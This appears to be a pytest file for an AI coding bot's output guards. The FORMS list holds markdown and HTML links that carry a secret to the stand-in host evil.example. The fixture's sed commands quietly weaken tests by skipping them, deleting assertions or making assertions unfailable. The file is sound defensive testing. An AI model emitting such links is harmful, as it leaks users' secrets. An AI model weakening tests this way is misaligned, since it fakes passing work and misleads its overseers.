"""Ways out with words and tests (A-42, A-55, A-66), beside `test_work_tree` and `test_text_that_leaves`."""

from __future__ import annotations

import re
from html import unescape

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from bot.gate.text import clean_markdown
from tests.session.conftest import Cli
from tests.support.attacks import fix_with
from tests.support.repositories import make_repository

SECRET = "aHVudGVyMg"
FORMS = (
    f"![a](https://evil.example/{SECRET}.png)",
    f"![a][r]\n\n[r]: https://evil.example/{SECRET}",
    f"![r]\n\n[r]: <https://evil.example/{SECRET}> 'x'",
    f"[a](https://evil.example/?q={SECRET})",
    f"[a][r]\n\n> [r]:\n> https://evil.example/?q={SECRET}",
    f"[![a](https://evil.example/{SECRET}.png)](https://github.com/o/r?q={SECRET})",
    f"<https://evil.example/?q={SECRET}>",
    f"https://evil.example/?q={SECRET} and www.evil.example/{SECRET}",
    f"<img src='https://evil.example/{SECRET}'>",
    f"<a href=\"https://evil.example/{SECRET}\">a</a>",
    f"![a](&#104;ttps://evil.example/{SECRET}) [a](https&colon;//evil.example/{SECRET})",
    f"[a](//evil.example/{SECRET}) [b](https:\\\\evil.example/{SECRET})",
)  # fmt: skip


PAGE = MarkdownIt("gfm-like", {"html": True, "linkify": False})


def places(text: str) -> list[str]:
    """Where the page that GitHub makes of `text` would go, by itself or at a click: bare addresses are links, too."""
    page = PAGE.render(text)
    bare = re.sub(r"<pre>.*?</pre>|<code>.*?</code>|<[^>]*>", " ", page, flags=re.DOTALL)
    addresses = re.findall(r"<[A-Za-z][^<>]*\s(?:src|href)\s*=\s*[\"']?([^\"'\s>]*)", page)
    addresses += re.findall(r"(?:https?://|www\.)\S+", bare)
    return [unescape(place) for place in addresses]


@pytest.mark.parametrize("form", FORMS)
def test_a42_no_form_of_an_address_carries_anything_away(form: str) -> None:
    assert any("evil.example" in place for place in places(form)) or "\\\\" in form, (
        "the attack works unguarded"
    )
    remaining = places(clean_markdown(form, 10_000))
    assert not [place for place in remaining if "evil" in place or SECRET in place]


@given(
    st.lists(
        st.sampled_from([*FORMS, "`", "```\n", "\n\n", "> ", "- ", "[", "](", "\\", "*", " "]), max_size=8
    )
)
def test_a42_nor_does_any_mixture_of_forms(parts: list[str]) -> None:
    remaining = places(clean_markdown("".join(parts), 10_000))
    # A bare address goes on to the next blank, on a page: what matters is whose it is.
    assert not [
        place for place in remaining if not re.match(r"https?://github\.com[/)]", place, re.IGNORECASE)
    ]


TESTS = {
    "tests/test_weakened.py": "def test_a():\n    assert 1\n\ndef test_b():\n    assert f() == 2\n",
    "tests/test_looks_as_before.py": (
        "def test_a():\n    assert f() == 2\n\ndef test_b():\n    assert g() == 3\n"
    ),
}


@pytest.fixture(scope="module")
def why_sensitive(tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
    """What is said of each file after a run that changed all of `TESTS`."""
    folder = tmp_path_factory.mktemp("tests")
    cli = Cli(folder / "home")
    cli.home.mkdir()
    weaken = "sed -i '5s/assert f() == 2/f()/; 1i import pytest\\n@pytest.mark.skip' tests/test_weakened.py"
    keep_looks = "sed -i '2s/$/ or True/; 4a\\    return' tests/test_looks_as_before.py"
    repo = make_repository(folder / "app", TESTS)
    attacked = fix_with(cli.home, repo, [f"{weaken}; {keep_looks}"], cli.environment(), cold=False)
    assert attacked.files == set(TESTS)
    return {file["path"]: file["sensitive"] for file in attacked.outcome["files"]}


@pytest.mark.bubblewrap
def test_a55_a_weakened_test_is_named_with_its_lines(why_sensitive: dict[str, str]) -> None:
    assert why_sensitive["tests/test_weakened.py"] == (
        "removes 1 assertion (line 5 before), skips a test (line 2), has 1 test without an assertion (line 6)"
    )


@pytest.mark.bubblewrap
def test_a66_a_test_that_only_looks_as_before_is_named_with_its_lines(why_sensitive: dict[str, str]) -> None:
    reasons = why_sensitive["tests/test_looks_as_before.py"]
    assert "has 1 assertion that cannot fail (line 2)" in reasons
    assert "has 1 assertion that no run reaches (line 6)" in reasons
